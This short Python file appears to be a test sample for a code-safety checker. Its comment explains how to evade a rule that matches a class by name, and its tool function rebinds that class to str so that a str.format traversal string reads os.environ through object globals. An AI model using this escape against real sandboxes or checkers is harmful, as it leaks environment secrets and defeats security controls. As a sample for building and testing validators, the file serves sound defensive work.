# family: combinations
# escape: `t = Fmt(x); t.format(obj)` passes because Fmt is a tool class with its own format method, but the rule
# matches the class by name only: rebinding Fmt = str at run time makes t a str, and str.format walks
# __init__.__globals__ of the object to os.environ.
import json

class Fmt:
    def format(self, *args):
        return ""

class Row:
    def __init__(self):
        self.cells = []

def tool(word: str = "globals") -> str:
    global Fmt
    Fmt = str
    t = Fmt("{0.__init__.__" + word + "__[json].codecs.sys.modules[os].environ}")
    return t.format(Row())
